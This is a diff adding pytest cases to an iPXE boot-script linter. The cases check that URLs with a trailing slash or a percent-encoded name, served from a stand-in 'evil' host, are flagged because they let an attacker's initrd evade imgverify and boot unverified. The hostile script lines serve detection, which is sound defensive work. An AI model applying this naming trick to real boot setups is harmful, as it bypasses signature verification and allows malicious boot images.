@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from trustboot.cli.main import cli
 from trustboot.errors import ConfigError
 from trustboot.ipxe import script as S
-from trustboot.ipxe.lint import lint_script, parse_script
+from trustboot.ipxe.lint import lint_script, parse_script, uri_name
 from trustboot.ipxe.syntax import join_lines, parse_command, split_tokens
 
 HEAD = "#!ipxe\nimgtrust --permanent\n"
@@ -129,6 +129,79 @@ def test_a_decrypted_image_is_no_longer_verified() -> None:
     text = GOOD.replace(BOOT, "imgdecrypt initrd.img https://b/initrd.env || goto failed\n"
                         + BOOT)
     assert "unverified-image" in rules(text)
+
+
+# (token, the name iPXE gives the image it downloads), traced in iPXE's core/uri.c
+# (parse_uri, uri_decode, resolve_path), core/image.c (image_set_uri) and core/basename.c.
+IPXE_NAMES = [
+    ("https://b/rel/vmlinuz", "vmlinuz"),
+    ("https://b/rel/initrd.img/", ""),  # basename() after a trailing '/'
+    ("https://b/rel/initrd%2Eimg", "initrd.img"),  # the path is percent-decoded
+    ("https://b/rel/a%2Fb", "b"),  # ... before basename()
+    ("https://b/rel/v%00z", "v"),  # a decoded NUL ends the C string
+    ("https://b/rel/v%+41", "v\x04" + "1"),  # iPXE's strtoul takes a sign: "%+4" is 0x04
+    ("https://b/rel/v%zz", "v%zz"),  # not hex: kept
+    ("https://b/rel/vmlinuz?x=1/y", "vmlinuz"),  # the query is not part of the path
+    ("https://b/rel/vmlinuz#a/b", "vmlinuz"),  # nor the fragment
+    ("https:vmlinuz", "vmlinuz"),  # opaque: the basename of the opaque part
+    ("urn:a:b/c", "c"),
+    ("x1:a/b", "b"),  # a digit is no scheme character: a relative path
+    ("https://b", None),  # no path: "imgN"
+    ("https://b/", ""),
+    ("?x", None),  # relative with no path: the name of the script's own URL
+    ("..", ""),  # resolve_path() drops leading "./" and "../"
+    ("./initrd.img", "initrd.img"),
+    ("initrd.img", "initrd.img"),
+]
+
+
+@pytest.mark.parametrize("token, name", IPXE_NAMES)
+def test_images_are_named_as_ipxe_names_them(token: str, name: str | None) -> None:
+    assert uri_name(token) == name
+
+
+@pytest.mark.parametrize("stage", ["embedded", "chained"])
+@pytest.mark.parametrize("url, token", [
+    ("https://evil/initrd.img/", "initrd.img"),  # named '': imgverify downloads another
+    ("https://evil/initrd%2Eimg", "initrd%2Eimg"),  # named initrd.img, verified by spelling
+])
+def test_an_initrd_named_differently_from_its_url_is_caught(stage: str, url: str,
+                                                             token: str) -> None:
+    # The reviewer's scripts: 'imgverify TOKEN' finds no image of that name, downloads
+    # TOKEN relative to the script's URL and verifies that; the attacker's initrd stays
+    # registered, unverified, and 'boot' hands it to the kernel.
+    text = GOOD.replace(INITRD + VERIFY_I, f"initrd {url} || goto failed\n"
+                        f"imgverify {token} https://b/initrd.img.sig || goto failed\n")
+    found = lint_script(text, stage=stage)
+    assert {"unverified-image", "image-name"} <= {f.rule for f in found}, found
+    assert any(f.rule == "image-name" and f.line == 5 and url in f.message for f in found)
+    assert any(f.rule == "unverified-image" and f.line == 7 for f in found)
+
+
+@pytest.mark.parametrize("command", ["initrd", "imgfetch", "module", "kernel", "chain"])
+def test_a_fetch_not_named_after_its_last_segment_is_flagged(command: str) -> None:
+    found = {f.rule: f for f in lint_script(GOOD.replace(
+        BOOT, f"{command} https://b/x/initrd.img/ || goto failed\n" + BOOT))}
+    assert "image-name" in found and "names it ''" in found["image-name"].message
+    # with an explicit --name, the URL's spelling does not decide the name
+    named = GOOD.replace(INITRD, "initrd --name initrd.img https://b/initrd%2Eimg/ || "
+                         "goto failed\n")
+    assert rules(named) == set()
+    # a query string is dropped as anyone expects: not flagged
+    assert rules(GOOD.replace(INITRD, "initrd https://b/initrd.img?v=2 || goto failed\n")) \
+        == set()
+
+
+def test_lint_cli_refuses_the_trailing_slash_initrd(tmp_path: Path) -> None:
+    f = tmp_path / "boot.ipxe"
+    f.write_text("#!ipxe\nkernel https://b/rel/vmlinuz\n"
+                 "imgverify vmlinuz https://b/rel/vmlinuz.sig || goto fail\n"
+                 "initrd https://evil/initrd.img/\n"
+                 "imgverify initrd.img https://b/rel/initrd.img.sig || goto fail\n"
+                 "boot\n:fail\nreboot\n")
+    code, out, _ = _run("ipxe", "script", "lint", "--stage", "chained", str(f), "--json")
+    assert code == 3
+    assert {"image-name", "unverified-image"} <= {x["rule"] for x in json.loads(out)["findings"]}
 
 
 @pytest.mark.parametrize("line", ["set next:ipv4 ${filename}", "inc net9/tries",
